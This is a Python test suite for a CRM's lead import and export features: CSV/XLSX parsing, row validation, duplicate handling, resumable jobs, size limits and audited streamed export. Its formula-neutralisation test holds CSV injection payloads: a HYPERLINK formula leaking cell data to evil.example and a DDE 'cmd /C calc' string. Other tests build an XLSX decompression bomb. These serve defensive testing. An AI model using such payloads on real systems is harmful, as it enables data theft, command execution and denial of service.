"""Importing leads (CSV in UTF-8, UTF-8 with BOM and Latin-1, `;` or `,`; XLSX) as a
background job with progress, per-row errors and duplicate policies; exporting the filtered
list as a streamed CSV, audited."""

from __future__ import annotations

import asyncio
import codecs
import csv
import io
import uuid
import zipfile
from collections.abc import Callable, Iterable, Iterator
from typing import Any
from urllib.parse import urlencode

import httpx
import openpyxl
import pytest
import sqlalchemy as sa
from openpyxl.worksheet._reader import WorkSheetParser

from lovedcrm.app import create_app
from lovedcrm.config import Settings
from lovedcrm.db.engine import Database
from lovedcrm.jobs.engine import run_until_idle
from lovedcrm.leads import importing
from lovedcrm.leads import jobs as import_jobs
from tests.factories import (
    CSV_MIME,
    csrf_token,
    join_and_login,
    owner_sql,
    run_import,
    set_custom_fields,
    signup,
    upload_import,
    web_login,
    web_signup,
)

CUSTOM_FIELDS = [
    {"key": "segment", "label": "Segmento", "type": "select", "options": ["varejo", "b2b"]},
    {"key": "employees", "label": "Funcionários", "type": "number"},
]
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
async def admin(client: httpx.AsyncClient) -> dict[str, Any]:
    data = await signup(client, full_name="Admin Import")
    await set_custom_fields(client, data["headers"], CUSTOM_FIELDS)
    return data


async def upload(
    c: httpx.AsyncClient, h: dict[str, str], name: str, content: bytes, mime: str = CSV_MIME
) -> httpx.Response:
    return await c.post("/api/v1/imports", headers=h, files={"file": (name, content, mime)})


async def leads_of(c: httpx.AsyncClient, h: dict[str, str]) -> list[dict[str, Any]]:
    r = await c.get("/api/v1/leads", headers=h, params={"limit": 200, "sort": "full_name"})
    assert r.status_code == 200, r.text
    return list(r.json()["items"])


def read_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body[len(codecs.BOM_UTF8) :].decode("utf-8"))))


ACCENTED = (
    "Nome;E-mail;Celular;Empresa;Segmento\n"
    "João Conceição;joao@example.com;(11) 98765-4321;Açúcar União;Varejo\n"
    "Maria Açúcar;MARIA@example.com;21 99876 5432;Doces Pará;b2b\n"
)


@pytest.mark.parametrize(
    ("encoding", "expected"),
    [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("cp1252", "cp1252")],
)
async def test_csv_encodings_and_semicolons(
    client: httpx.AsyncClient,
    admin: dict[str, Any],
    database: Database,
    settings: Settings,
    encoding: str,
    expected: str,
) -> None:
    h = admin["headers"]
    analysis = await upload_import(client, h, "contatos.csv", ACCENTED.encode(encoding))
    assert analysis["encoding"] == expected
    assert analysis["delimiter"] == ";"
    assert analysis["headers"] == ["Nome", "E-mail", "Celular", "Empresa", "Segmento"]
    assert analysis["suggested_mapping"] == {
        "Nome": "full_name",
        "E-mail": "email",
        "Celular": "phone",
        "Empresa": "company",
        "Segmento": "custom:segment",
    }
    assert analysis["total_rows"] == 2
    assert analysis["preview"][0] == {
        "line": 2,
        "values": {
            "Nome": "João Conceição",
            "E-mail": "joao@example.com",
            "Celular": "(11) 98765-4321",
            "Empresa": "Açúcar União",
            "Segmento": "Varejo",
        },
    }
    result = await run_import(client, h, database, settings, analysis)
    assert result["status"] == "completed", result
    assert result["progress"] == {
        "processed": 2,
        "total": 2,
        "created": 2,
        "updated": 0,
        "skipped": 0,
        "errors": 0,
        "rows": [],
    }
    leads = await leads_of(client, h)
    assert [(x["full_name"], x["email"], x["phone"], x["company"]) for x in leads] == [
        ("João Conceição", "joao@example.com", "+5511987654321", "Açúcar União"),
        ("Maria Açúcar", "maria@example.com", "+5521998765432", "Doces Pará"),
    ]
    assert [x["custom_fields"] for x in leads] == [{"segment": "varejo"}, {"segment": "b2b"}]
    # The member who started it is told it finished (the notification centre).
    r = await client.get("/api/v1/notifications", headers=h)
    assert r.status_code == 200, r.text
    [told] = [n for n in r.json()["items"] if n["notification_type"] == "import_finished"]
    assert told["link"] == f"/leads/import/{result['id']}"


async def test_xlsx(
    client: httpx.AsyncClient, admin: dict[str, Any], database: Database, settings: Settings
) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Name", "Email", "WhatsApp", "Company", "Valor", "Funcionários"])
    sheet.append(["Ana Açaí", "ana@example.com", 11912345678, "Açaí & Cia", 1500.5, 12])
    sheet.append(["Bob", "bob@example.com", "+55 31 99123-4567", None, "R$ 2.000,00", None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    h = admin["headers"]
    analysis = await upload_import(client, h, "planilha.xlsx", buffer.getvalue(), XLSX_MIME)
    assert analysis["format"] == "xlsx"
    assert analysis["suggested_mapping"] == {
        "Name": "full_name",
        "Email": "email",
        "WhatsApp": "phone",
        "Company": "company",
        "Valor": "estimated_value",
        "Funcionários": "custom:employees",
    }
    assert analysis["preview"][0]["values"]["WhatsApp"] == "11912345678"
    result = await run_import(client, h, database, settings, analysis)
    assert result["progress"]["created"] == 2, result
    ana, bob = await leads_of(client, h)
    assert (ana["phone"], ana["estimated_value"], ana["custom_fields"]) == (
        "+5511912345678",
        "1500.50",
        {"employees": 12},
    )
    assert (bob["phone"], bob["estimated_value"]) == ("+5531991234567", "2000.00")


async def test_bad_rows_are_reported_by_line_and_good_rows_imported(
    client: httpx.AsyncClient, admin: dict[str, Any], database: Database, settings: Settings
) -> None:
    content = (
        "name,email,phone,segmento\n"
        "Boa Um,um@example.com,11987650001,varejo\n"  # line 2
        "Email Ruim,not-an-email,11987650002,varejo\n"  # line 3
        "Fone Ruim,fone@example.com,123,varejo\n"  # line 4
        ",semnome@example.com,11987650004,varejo\n"  # line 5
        "\n"  # line 6: blank, ignored
        "Segmento Ruim,seg@example.com,11987650005,atacado\n"  # line 7
        "Boa Dois,dois@example.com,,b2b\n"  # line 8
    )
    h = admin["headers"]
    analysis = await upload_import(client, h, "leads.csv", content.encode())
    assert analysis["delimiter"] == ","
    result = await run_import(client, h, database, settings, analysis)
    assert result["status"] == "completed"
    assert result["progress"]["created"] == 2 and result["progress"]["errors"] == 4, result
    assert sorted(x["full_name"] for x in await leads_of(client, h)) == ["Boa Dois", "Boa Um"]

    r = await client.get(result["errors_url"], headers=h)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    rows = read_csv(r.content)
    assert rows[0] == ["line", "column", "value", "message"]
    by_line = {int(row[0]): row for row in rows[1:]}
    assert sorted(by_line) == [3, 4, 5, 7]
    assert by_line[3][1:3] == ["email", "not-an-email"]
    assert by_line[4][1:3] == ["phone", "123"]
    # In the organization's language (pt-BR), in the file and on the page, with the reason.
    assert by_line[5][1] == "name" and by_line[5][3] == "é obrigatório"
    assert by_line[7][1:3] == ["segmento", "atacado"] and "varejo" in by_line[7][3]
    details = {row["line"]: row for row in result["progress"]["rows"]}
    assert sorted(details) == [3, 4, 5, 7]
    assert details[5] == {
        "line": 5,
        "outcome": "error",
        "column": "name",
        "value": "",
        "message": "é obrigatório",
        "reason": None,
        "lead_id": None,
        "lead_name": None,
    }
    await web_login(client, admin["email"])
    page = await client.get(f"/leads/import/{result['id']}")
    assert page.status_code == 200
    assert "Por que linhas foram puladas ou não importadas" in page.text
    assert "not-an-email" in page.text and "é obrigatório" in page.text


@pytest.mark.parametrize(
    ("policy", "created", "updated", "skipped"),
    [("skip", 1, 0, 2), ("update", 1, 2, 0), ("create", 3, 0, 0)],
)
async def test_duplicate_policies(
    client: httpx.AsyncClient,
    admin: dict[str, Any],
    database: Database,
    settings: Settings,
    policy: str,
    created: int,
    updated: int,
    skipped: int,
) -> None:
    h = admin["headers"]
    r = await client.post(
        "/api/v1/leads",
        headers=h,
        json={"full_name": "Existente", "email": "a@example.com", "company": "Antiga"},
    )
    assert r.status_code == 201, r.text
    content = (
        "Nome,Email,Empresa,Cargo\n"
        "Existente Novo,A@example.com,Nova,Diretora\n"  # the existing lead, by e-mail
        "Beto,b@example.com,,\n"
        "Beto B.,b@example.com,,Gerente\n"  # the previous row again
    )
    analysis = await upload_import(client, h, "dups.csv", content.encode())
    result = await run_import(client, h, database, settings, analysis, policy=policy)
    progress = result["progress"]
    assert (progress["created"], progress["updated"], progress["skipped"]) == (
        created,
        updated,
        skipped,
    ), result
    leads = await leads_of(client, h)
    assert len(leads) == 1 + created
    existing = next(x for x in leads if x["id"] == r.json()["id"])
    if policy == "skip":  # each skipped row names the lead it matched, and why
        assert progress["rows"] == [
            {
                "line": line,
                "outcome": "skipped",
                "reason": "email",
                "lead_id": lead_id,
                "lead_name": name,
                "column": None,
                "value": None,
                "message": None,
            }
            for line, lead_id, name in (
                (2, existing["id"], "Existente"),
                (4, next(x["id"] for x in leads if x["full_name"] == "Beto"), "Beto"),
            )
        ]
    if policy == "update":
        assert (existing["full_name"], existing["company"], existing["job_title"]) == (
            "Existente Novo",
            "Nova",
            "Diretora",
        )
        [beto] = [x for x in leads if x["email"] == "b@example.com"]
        assert (beto["full_name"], beto["job_title"]) == ("Beto B.", "Gerente")
    else:
        assert existing["company"] == "Antiga"


async def test_progress_is_saved_per_chunk_and_a_retry_resumes(
    client: httpx.AsyncClient,
    admin: dict[str, Any],
    database: Database,
    settings: Settings,
    owner: sa.Engine,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(import_jobs, "CHUNK_SIZE", 2)
    real = import_jobs._run_chunk
    calls = {"n": 0}

    async def crash_on_third_chunk(*args: Any, **kwargs: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == 3:
            raise RuntimeError("worker died")
        return await real(*args, **kwargs)

    monkeypatch.setattr(import_jobs, "_run_chunk", crash_on_third_chunk)
    content = "Nome\n" + "".join(f"Pessoa {i}\n" for i in range(7))
    h = admin["headers"]
    analysis = await upload_import(client, h, "seven.csv", content.encode())
    first = await run_import(client, h, database, settings, analysis, policy="create")
    # Two chunks committed before the failure; their progress is visible.
    assert first["status"] == "retrying", first
    assert first["progress"]["processed"] == 4 and first["progress"]["created"] == 4
    assert first["progress"]["total"] == 7
    owner_sql(
        owner, "UPDATE background_jobs SET scheduled_for = now() WHERE id = :i", i=first["id"]
    )
    await run_until_idle(database, settings, types=[importing.JOB_TYPE])
    r = await client.get(f"/api/v1/imports/{first['id']}", headers=h)
    done = r.json()
    assert done["status"] == "completed", done
    assert done["progress"]["processed"] == 7 and done["progress"]["created"] == 7
    # Resumed after the last committed chunk: nobody was imported twice.
    names = [x["full_name"] for x in await leads_of(client, h)]
    assert sorted(names) == [f"Pessoa {i}" for i in range(7)]
    [(changes,)] = owner_sql(
        owner,
        "SELECT changes FROM audit_logs WHERE action = 'leads_import' AND resource_id = :i",
        i=first["id"],
    )
    assert changes["created"] == 7 and changes["file_name"] == "seven.csv"


async def test_mapping_and_file_checks(client: httpx.AsyncClient, admin: dict[str, Any]) -> None:
    h = admin["headers"]
    analysis = await upload_import(client, h, "a.csv", b"Nome,Email\nAna,ana@example.com\n")
    start = {"upload_id": analysis["upload_id"], "duplicate_policy": "skip"}
    r = await client.post(
        "/api/v1/imports/start", headers=h, json={**start, "mapping": {"Email": "email"}}
    )
    assert r.status_code == 422 and r.json()["code"] == "invalid_mapping", r.text
    r = await client.post(
        "/api/v1/imports/start",
        headers=h,
        json={**start, "mapping": {"Nome": "full_name", "Nope": "email", "Email": "salary"}},
    )
    assert r.status_code == 422
    assert {e["field"] for e in r.json()["errors"]} == {"mapping.Nope", "mapping.Email"}
    r = await client.post(
        "/api/v1/imports/start",
        headers=h,
        json={**start, "upload_id": uuid.uuid4().hex, "mapping": {"Nome": "full_name"}},
    )
    assert r.status_code == 404
    r = await client.post(
        "/api/v1/imports/start", headers=h, json={**start, "mapping": {"Nome": "full_name"}}
    )
    assert r.status_code == 202
    r = await client.post(
        "/api/v1/imports/start", headers=h, json={**start, "mapping": {"Nome": "full_name"}}
    )
    assert r.status_code == 409 and r.json()["code"] == "import_already_started"

    r = await upload(client, h, "leads.pdf", b"%PDF-1.4")
    assert r.status_code == 422 and r.json()["code"] == "unsupported_file_type"
    r = await upload(client, h, "broken.xlsx", b"not a zip", XLSX_MIME)
    assert r.status_code == 422 and r.json()["code"] == "unreadable_file"
    r = await upload(client, h, "empty.csv", b"\n\n")
    assert r.status_code == 422 and r.json()["code"] == "empty_file"


async def test_file_over_the_limit_is_refused_naming_it(
    settings: Settings, database: Database, client: httpx.AsyncClient
) -> None:
    small = create_app(settings.model_copy(update={"import_max_bytes": 4096}), database=database)
    transport = httpx.ASGITransport(app=small, client=("203.0.113.7", 5555))
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as c:
        admin = await signup(c)
        content = b"Nome\n" + b"Fulano de Tal\n" * 400
        r = await upload(c, admin["headers"], "big.csv", content)
        assert r.status_code == 413, r.text
        assert "4096 bytes" in r.json()["detail"]
        # JSON routes keep the general limit; the upload route has its own.
        assert (await upload(c, admin["headers"], "ok.csv", b"Nome\nAna\n")).status_code == 201
    # The default import limit is far above the general body limit.
    assert settings.import_max_bytes > settings.max_body_bytes
    r = await upload(
        client, (await signup(client))["headers"], "mid.csv", b"Nome\n" + b"Fulano\n" * 160_000
    )
    assert r.status_code == 201, r.text


async def test_another_organizations_import_is_not_found(
    client: httpx.AsyncClient, admin: dict[str, Any], database: Database, settings: Settings
) -> None:
    analysis = await upload_import(client, admin["headers"], "a.csv", b"Nome\nAna\n")
    result = await run_import(client, admin["headers"], database, settings, analysis)
    other = (await signup(client))["headers"]
    assert (await client.get(f"/api/v1/imports/{result['id']}", headers=other)).status_code == 404
    r = await client.get(f"/api/v1/imports/{result['id']}/errors.csv", headers=other)
    assert r.status_code == 404
    r = await client.post(
        "/api/v1/imports/start",
        headers=other,
        json={"upload_id": analysis["upload_id"], "mapping": {"Nome": "full_name"}},
    )
    assert r.status_code == 404
    sales = await join_and_login(client, admin["headers"], "sales")
    r = await client.get(f"/api/v1/imports/{result['id']}", headers=sales)
    assert r.status_code == 403 and r.json()["permission"] == "leads:import"


# --- what an upload may hold --------------------------------------------------------------


def xlsx_with_sheet(sheet_xml: Iterable[bytes]) -> bytes:
    """A real workbook (made by openpyxl) whose first sheet's XML is ``sheet_xml``, streamed
    into the zip: a file that unpacks to far more than it weighs."""
    book = io.BytesIO()
    openpyxl.Workbook().save(book)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(book) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with target.open(info.filename, "w", force_zip64=True) as sheet:
                    for block in sheet_xml:
                        sheet.write(block)
            else:
                target.writestr(info, source.read(info.filename))
    return out.getvalue()


SHEET_START = (
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_END = b"</sheetData></worksheet>"


def inline_row(line: int, *cells: str) -> bytes:
    columns = "ABCDEFGHIJ"
    return (
        f'<row r="{line}">'
        + "".join(
            f'<c r="{columns[i]}{line}" t="inlineStr"><is><t>{value}</t></is></c>'
            for i, value in enumerate(cells)
        )
        + "</row>"
    ).encode()


def many_rows(n: int) -> Iterator[bytes]:
    yield SHEET_START + inline_row(1, "Nome", "Email")
    batch: list[bytes] = []
    for line in range(2, n + 2):
        batch.append(inline_row(line, f"Pessoa {line}", f"p{line}@example.com"))
        if len(batch) == 10_000:
            yield b"".join(batch)
            batch = []
    yield b"".join(batch) + SHEET_END


@pytest.fixture
def limited(settings: Settings, database: Database) -> Callable[..., httpx.AsyncClient]:
    """A client of an app with other import limits."""

    def _make(**limits: int) -> httpx.AsyncClient:
        app = create_app(settings.model_copy(update=limits), database=database)
        transport = httpx.ASGITransport(app=app, client=("203.0.113.7", 5555))
        return httpx.AsyncClient(transport=transport, base_url="http://testserver")

    return _make


async def test_rows_columns_and_cells_over_the_limits_are_refused(
    limited: Callable[..., httpx.AsyncClient],
) -> None:
    async with limited(import_max_rows=5, import_max_columns=3, import_max_cell_chars=100) as c:
        h = (await signup(c))["headers"]
        rows = "".join(f"Pessoa {i},p{i}@example.com\n" for i in range(5))
        assert (await upload(c, h, "five.csv", f"Nome,Email\n{rows}".encode())).status_code == 201
        r = await upload(c, h, "six.csv", f"Nome,Email\n{rows}Mais Um,m@example.com\n".encode())
        assert r.status_code == 422 and r.json()["code"] == "too_many_rows", r.text
        assert "5 rows" in r.json()["detail"]

        r = await upload(c, h, "wide.csv", b"Nome,Email,Fone,Empresa\nAna,a@example.com,1,X\n")
        assert r.status_code == 422 and r.json()["code"] == "too_many_columns", r.text

        r = await upload(c, h, "long.csv", b"Nome,Email\nAna," + b"a" * 101 + b"\n")
        assert r.status_code == 422 and r.json()["code"] == "cell_too_long", r.text
        assert "line 2, column 2" in r.json()["detail"]

        book = openpyxl.Workbook()
        book.active.append(["Nome", "Notas"])
        book.active.append(["Ana", "b" * 101])
        buffer = io.BytesIO()
        book.save(buffer)
        r = await upload(c, h, "long.xlsx", buffer.getvalue(), XLSX_MIME)
        assert r.status_code == 422 and r.json()["code"] == "cell_too_long", r.text

        # A cell far to the right (column XFD): refused at that row, not padded out.
        far_cell = b'<row r="2"><c r="XFD2"><v>1</v></c></row>'
        wide = xlsx_with_sheet([SHEET_START, inline_row(1, "Nome"), far_cell, SHEET_END])
        r = await upload(c, h, "far.xlsx", wide, XLSX_MIME)
        assert r.status_code == 422 and r.json()["code"] == "too_many_columns", r.text


async def test_a_csv_cell_past_the_csv_readers_own_limit_is_named(
    client: httpx.AsyncClient, admin: dict[str, Any]
) -> None:
    r = await upload(client, admin["headers"], "huge.csv", b"Nome\n" + b"x" * 200_000 + b"\n")
    assert r.status_code == 422 and r.json()["code"] == "cell_too_long", r.text


async def test_a_300_mb_cell_in_a_small_xlsx_is_refused_before_it_is_unpacked(
    client: httpx.AsyncClient, admin: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The issue's file: a few hundred KB that unpack to one 300 MB cell."""
    opened: list[str] = []
    real = openpyxl.load_workbook

    def spy(*args: Any, **kwargs: Any) -> Any:
        opened.append("load_workbook")
        return real(*args, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", spy)

    def sheet() -> Iterator[bytes]:
        yield SHEET_START + inline_row(1, "Nome") + b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
        block = b"x" * (1 << 20)
        for _ in range(300):
            yield block
        yield b"</t></is></c></row>" + SHEET_END

    bomb = xlsx_with_sheet(sheet())
    assert len(bomb) < 1_000_000
    r = await upload(client, admin["headers"], "bomb.xlsx", bomb, XLSX_MIME)
    assert r.status_code == 413, r.text
    assert r.json()["code"] == "unpacked_too_large"
    assert r.json()["limit_bytes"] == 128 * 1_048_576
    assert opened == []  # refused from the zip's directory: nothing was inflated


async def test_an_xlsx_with_too_many_rows_is_refused_without_reading_it_all(
    limited: Callable[..., httpx.AsyncClient], monkeypatch: pytest.MonkeyPatch
) -> None:
    parsed: list[int] = []
    real = WorkSheetParser.parse_row

    def counting(self: WorkSheetParser, element: Any) -> Any:
        parsed.append(1)
        return real(self, element)

    monkeypatch.setattr(WorkSheetParser, "parse_row", counting)
    bomb = xlsx_with_sheet(many_rows(60_000))
    async with limited(import_max_rows=1_000) as c:
        h = (await signup(c))["headers"]
        r = await upload(c, h, "rows.xlsx", bomb, XLSX_MIME)
        assert r.status_code == 422 and r.json()["code"] == "too_many_rows", r.text
    assert 1_000 < len(parsed) < 1_100  # it stopped at the limit, not at line 60,001


async def test_an_xlsx_that_unpacks_past_the_limit_is_refused_on_the_page(
    limited: Callable[..., httpx.AsyncClient],
) -> None:
    async with limited(import_max_unpacked_bytes=1_048_576) as c:
        await web_signup(c)
        token = await csrf_token(c, "/leads/import")
        r = await c.post(
            "/leads/import",
            data={"csrf_token": token},
            files={"file": ("big.xlsx", xlsx_with_sheet(many_rows(40_000)), XLSX_MIME)},
        )
        assert r.status_code == 413, r.text
        assert "descompactada" in r.text and "1 MB" in r.text  # pt-BR, the limit named


async def test_the_errors_file_neutralises_formulas(
    client: httpx.AsyncClient, admin: dict[str, Any], database: Database, settings: Settings
) -> None:
    content = (
        "name,email,phone\n"
        "Boa,boa@example.com,11987650001\n"
        '"Ruim Um","=HYPERLINK(""http://evil.example/?x=""&A1,""clique"")",\n'
        "Ruim Dois,dois@example.com,-2+3+cmd|' /C calc'!A0\n"
        "Ruim Tres,@SUM(1+1),\n"
    )
    h = admin["headers"]
    analysis = await upload_import(client, h, "formulas.csv", content.encode())
    result = await run_import(client, h, database, settings, analysis)
    assert result["progress"]["created"] == 1 and result["progress"]["errors"] == 3, result
    r = await client.get(result["errors_url"], headers=h)
    by_line = {int(row[0]): row for row in read_csv(r.content)[1:]}
    assert by_line[3][2] == '\'=HYPERLINK("http://evil.example/?x="&A1,"clique")'
    assert by_line[4][2] == "'-2+3+cmd|' /C calc'!A0"
    assert by_line[5][2] == "'@SUM(1+1)"
    for row in by_line.values():
        assert all(not cell or cell[0] not in "=+-@" for cell in row), row


# --- export ---------------------------------------------------------------------------------


async def _stream(app: Any, h: dict[str, str], **params: Any) -> tuple[bytes, int]:
    """GET the export through the ASGI app itself, keeping the body messages apart (httpx's
    test transport joins them), to see that it is sent in pieces."""
    messages: list[dict[str, Any]] = []

    requested = False
    never = asyncio.Event()

    async def receive() -> dict[str, Any]:
        nonlocal requested
        if not requested:
            requested = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await never.wait()  # the client stays connected
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        messages.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": "/api/v1/leads/export.csv",
        "raw_path": b"/api/v1/leads/export.csv",
        "query_string": urlencode(params).encode(),
        "root_path": "",
        "headers": [(k.lower().encode(), v.encode()) for k, v in h.items()],
        "client": ("203.0.113.7", 5555),
        "server": ("testserver", 80),
    }
    await app(scope, receive, send)
    start = messages[0]
    bodies = [m.get("body", b"") for m in messages[1:]]
    assert start["status"] == 200, b"".join(bodies)
    headers = {k.decode(): v.decode() for k, v in start["headers"]}
    assert headers["content-type"].startswith("text/csv")
    assert "attachment" in headers["content-disposition"]
    return b"".join(bodies), len([b for b in bodies if b])


async def test_export_streams_every_row_with_custom_fields(
    client: httpx.AsyncClient, app: Any, admin: dict[str, Any], owner: sa.Engine
) -> None:
    h = admin["headers"]
    org = admin["organization_id"]
    owner_sql(
        owner,
        """
        INSERT INTO leads (organization_id, full_name, email, phone, stage_id, source,
                           custom_fields, created_at)
        SELECT :org, 'Lead ' || g, 'lead' || g || '@example.com',
               '+5511900' || lpad(g::text, 6, '0'),
               (SELECT id FROM pipeline_stages WHERE organization_id = :org
                 ORDER BY stage_order LIMIT 1),
               CASE WHEN g % 10 = 0 THEN 'ads' ELSE 'whatsapp' END,
               jsonb_build_object('segment', CASE WHEN g % 2 = 0 THEN 'varejo' ELSE 'b2b' END),
               now() - make_interval(secs => g)
          FROM generate_series(1, 2500) g
        """,
        org=org,
    )
    r = await client.post(
        "/api/v1/leads",
        headers=h,
        json={"full_name": '=HYPERLINK("http://evil")', "phone": "+5511988887777"},
    )
    assert r.status_code == 201, r.text
    body_bytes, pieces = await _stream(app, h)
    assert pieces >= 4  # the header, then one piece per page of 1000: never built whole
    rows = read_csv(body_bytes)
    header, body = rows[0], rows[1:]
    assert header[:12] == [
        "id",
        "full_name",
        "email",
        "phone",
        "company",
        "job_title",
        "stage",
        "assignee_email",
        "source",
        "estimated_value",
        "status",
        "created_at",
    ]
    assert header[12:] == ["custom:segment", "custom:employees"]
    assert len(body) == 2501
    assert len({row[0] for row in body}) == 2501
    by_name = {row[1]: dict(zip(header, row, strict=True)) for row in body}
    assert by_name["Lead 2"]["custom:segment"] == "varejo"
    assert by_name["Lead 2"]["stage"]
    assert by_name["Lead 2"]["phone"] == "+5511900000002"
    assert '\'=HYPERLINK("http://evil")' in by_name
    assert by_name['\'=HYPERLINK("http://evil")']["phone"] == "+5511988887777"

    ads = read_csv((await _stream(app, h, source="ads", q="Lead"))[0])[1:]
    assert len(ads) == 250 and all(row[8] == "ads" for row in ads)

    audit = owner_sql(
        owner,
        "SELECT action, changes FROM audit_logs WHERE organization_id = :o"
        " AND action IN ('data_export', 'data_export_completed') ORDER BY created_at",
        o=org,
    )
    started = [c for a, c in audit if a == "data_export"]
    finished = [c for a, c in audit if a == "data_export_completed"]
    assert len(started) == 2 and len(finished) == 2
    assert started[1]["filters"]["source"] == "ads" and started[1]["filters"]["q"] == "Lead"
    assert sorted(c["row_count"] for c in finished) == [250, 2501]


async def test_export_respects_the_sales_scope(
    client: httpx.AsyncClient, admin: dict[str, Any], owner: sa.Engine
) -> None:
    h = admin["headers"]
    for i in range(3):
        r = await client.post("/api/v1/leads", headers=h, json={"full_name": f"Do admin {i}"})
        assert r.status_code == 201
    sales = await join_and_login(client, h, "sales")
    r = await client.get("/api/v1/leads/export.csv", headers=sales)
    assert r.status_code == 403 and r.json()["permission"] == "leads:export"
    owner_sql(
        owner,
        "UPDATE organization_members SET permissions = '{\"leads:export\": true}'"
        " WHERE organization_id = :o AND role = 'sales'",
        o=admin["organization_id"],
    )
    for i in range(2):
        r = await client.post("/api/v1/leads", headers=sales, json={"full_name": f"Meu {i}"})
        assert r.status_code == 201
    r = await client.get("/api/v1/leads/export.csv", headers=sales)
    assert r.status_code == 200, r.text
    assert sorted(row[1] for row in read_csv(r.content)[1:]) == ["Meu 0", "Meu 1"]


async def test_export_with_a_bad_filter_is_an_error_before_streaming(
    client: httpx.AsyncClient, admin: dict[str, Any]
) -> None:
    r = await client.get("/api/v1/leads/export.csv", headers=admin["headers"], params={"sort": "x"})
    assert r.status_code == 422
